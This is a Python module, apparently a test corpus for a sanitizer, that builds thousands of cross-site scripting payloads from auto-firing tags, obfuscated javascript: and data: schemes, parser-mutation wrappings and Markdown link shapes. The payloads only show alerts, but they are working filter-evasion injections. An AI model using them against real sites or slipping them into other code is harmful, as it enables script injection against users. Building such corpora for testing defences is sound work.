"""Known ways to bring a script into a page, composed: tags, handlers, schemes, encodings, shapes.

Written for this project from the public classes of such attacks (handlers that fire by themselves,
schemes and their disguises, broken tags, foreign content, mutation, Markdown links); no list of
others was copied. Every payload calls `fired(…)` of a page that counts, by alert or by itself.
"""

import itertools
from collections.abc import Iterator
from urllib.parse import quote

CALL = "alert(1)"
# tag and handler pairs that fire without anybody's doing
SELF_FIRING = [
    "<img src=x onerror={c}>",
    "<img src onerror={c}>",
    "<image src=x onerror={c}>",
    "<img srcset=x onerror={c}>",
    "<picture><source srcset=x><img src=x onerror={c}></picture>",
    "<svg onload={c}>",
    "<svg><g onload={c}></g></svg>",
    "<svg><animate onbegin={c} attributeName=x dur=1s>",
    "<svg><set onbegin={c} attributeName=x to=y dur=1s>",
    "<svg><animateTransform onbegin={c} attributeName=transform dur=1s>",
    "<svg><image href=x onerror={c}>",
    "<svg><script>{c}</script></svg>",
    "<video src=x onerror={c}></video>",
    "<video><source onerror={c}></video>",
    "<audio src=x onerror={c}></audio>",
    "<body onload={c}>",
    "<body onpageshow={c}>",
    "<iframe onload={c}></iframe>",
    "<iframe srcdoc='<script>parent.{c}</script>'></iframe>",
    "<object data=x onerror={c}></object>",
    "<embed src=x onerror={c}>",
    "<script>{c}</script>",
    "<script src=x onerror={c}></script>",
    "<script type=module>{c}</script>",
    "<link rel=stylesheet href=x onerror={c}>",
    "<style onload={c}></style>",
    "<input autofocus onfocus={c}>",
    "<select autofocus onfocus={c}></select>",
    "<textarea autofocus onfocus={c}></textarea>",
    "<button autofocus onfocus={c}>x</button>",
    "<a href=# autofocus onfocus={c}>x</a>",
    "<p tabindex=1 autofocus onfocus={c}>x</p>",
    "<details open ontoggle={c}>x</details>",
    "<marquee onstart={c}>x</marquee>",
    "<marquee loop=1 width=0 onfinish={c}>x</marquee>",
    "<style>@keyframes k{{}}</style><p style='animation:k 1ms' onanimationstart={c}>x</p>",
    "<style>@keyframes k{{}}</style><em style='animation:k 1ms' onanimationend={c}>x</em>",
    "<p style='transition:color 1ms' ontransitionend={c}>x</p>",
    "<math><mtext><img src=x onerror={c}></mtext></math>",
    "<math href=javascript:{c}><mi>x</mi></math>",
    "<table><td background=x onload={c}><img src=x onerror={c}></table>",
    "<noscript><p title='</noscript><img src=x onerror={c}>'>",
    "<template><img src=x onerror={c}></template><img src=x onerror={c}>",
    "<form><button formaction=javascript:{c}>x</button></form>",
    "<isindex action=javascript:{c} type=image>",
    "<base href=javascript:{c}//><a href=x>x</a>",
    "<meta http-equiv=refresh content='0;url=javascript:{c}'>",
    "<iframe src=javascript:parent.{c}></iframe>",
    "<object data=javascript:{c}></object>",
    "<embed src=javascript:{c}>",
    "<a href=javascript:{c}>x</a>",
    "<a href=data:text/html,<script>{c}</script>>x</a>",
]
CALLS = [
    "alert(1)",
    "alert`1`",
    "(alert)(1)",
    "window.alert(1)",
    "top.alert(1)",
    "self['al'+'ert'](1)",
    "alert(document.domain)",
    "print()",
    "prompt(1)",
    "confirm(1)",
    "&#97;lert(1)",
    "&#x61;lert&#40;1&#41;",
    "document.title='fired'",
]
WRAPPINGS = [
    "{p}",
    "\"'><{n}",
    "</p>{p}",
    "<p>{p}</p>",
    "<!--{p}-->",
    "<!-->{p}",
    "<svg>{p}</svg>",
    "<math><mtext><table><mglyph><style><!--</style>{p}",
    "<svg></p><style><a id='</style>{p}'>",
    "<form><math><mtext></form><form><mglyph><style></math>{p}",
    "<table><caption><svg><title><table>{p}",
    "<a href='/x'>{p}</a>",
    "<mark>{p}",
    "<sup><b>{p}</sup>",
    "<textarea></textarea>{p}",
    "<noembed></noembed>{p}",
]
MARKDOWN = [
    "[x]({u})",
    "[x](<{u}>)",
    "[x]({u} 't')",
    "<{u}>",
    "![x]({u})",
    "[x]: {u}\n\n[x]",
    "[a](https://e.org/\"onmouseover='{c}')",
    '![a](https://e.org/x"onerror="{c})',
    "[![x]({u})]({u})",
    "**[x]({u})**",
    "> [x]({u})",
    "- [x]({u})",
    "### [x]({u})",
    "`{p}`",
    "```\n{p}\n```",
    "    {p}",
    "[{p}](https://e.org)",
    "[x](https://e.org '{p}')",
    "\\{p}",
    "*{p}*",
    "a\\\n{p}",
    "# {p}",
]
SCHEMES = [
    "javascript:{c}",
    "JaVaScRiPt:{c}",
    "java\tscript:{c}",
    "java&Tab;script:{c}",
    "java&#10;script:{c}",
    "&#106;avascript:{c}",
    "&#x6A&#x61vascript:{c}",
    "javascript&colon;{c}",
    "javascript&#58;{c}",
    " javascript:{c}",
    "\x01javascript:{c}",
    "\u00a0javascript:{c}",
    "//javascript:{c}",
    "javascript://%0a{c}",
    "javascript:/*--></title></style></script>*/{c}",
    "vbscript:{c}",
    "data:text/html,{q}",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,{q}",
    "feed:javascript:{c}",
    "view-source:javascript:{c}",
    "https:javascript:{c}",
    "\\javascript:{c}",
]


def _disguises(payload: str) -> Iterator[str]:
    yield payload
    yield payload.replace("<", "<\x00", 1)
    yield payload.replace(" ", "/")
    yield payload.replace(" ", "\x0c")
    yield payload.replace(" ", "\n")
    yield payload.swapcase().replace("ALERT", "alert").replace("(1)", "(1)")
    yield payload.removesuffix(">")
    yield payload.replace("<", "&lt;").replace(">", "&gt;")
    yield payload.replace("<", "\\<")


def _composed() -> Iterator[str]:
    for shape, call in itertools.product(SELF_FIRING, CALLS):
        yield from _disguises(shape.format(c=call))
    for shape, wrapping in itertools.product(SELF_FIRING, WRAPPINGS):
        payload = shape.format(c=CALL)
        yield wrapping.replace("{p}", payload).replace("<{n}", payload)
    for shape, scheme in itertools.product(MARKDOWN, SCHEMES):
        address = scheme.format(c=CALL, q=quote("<script>alert(1)</script>"))
        payload = f"<a href='{address}' autofocus onfocus={CALL}>x</a>"
        yield shape.replace("{u}", address).replace("{c}", CALL).replace("{p}", payload)
        yield (
            shape.replace("{u}", address)
            .replace("{c}", CALL)
            .replace("{p}", f"<iframe src='{address}'></iframe><img src=x onerror={CALL}>")
        )


PAYLOADS: tuple[str, ...] = tuple(dict.fromkeys(_composed()))
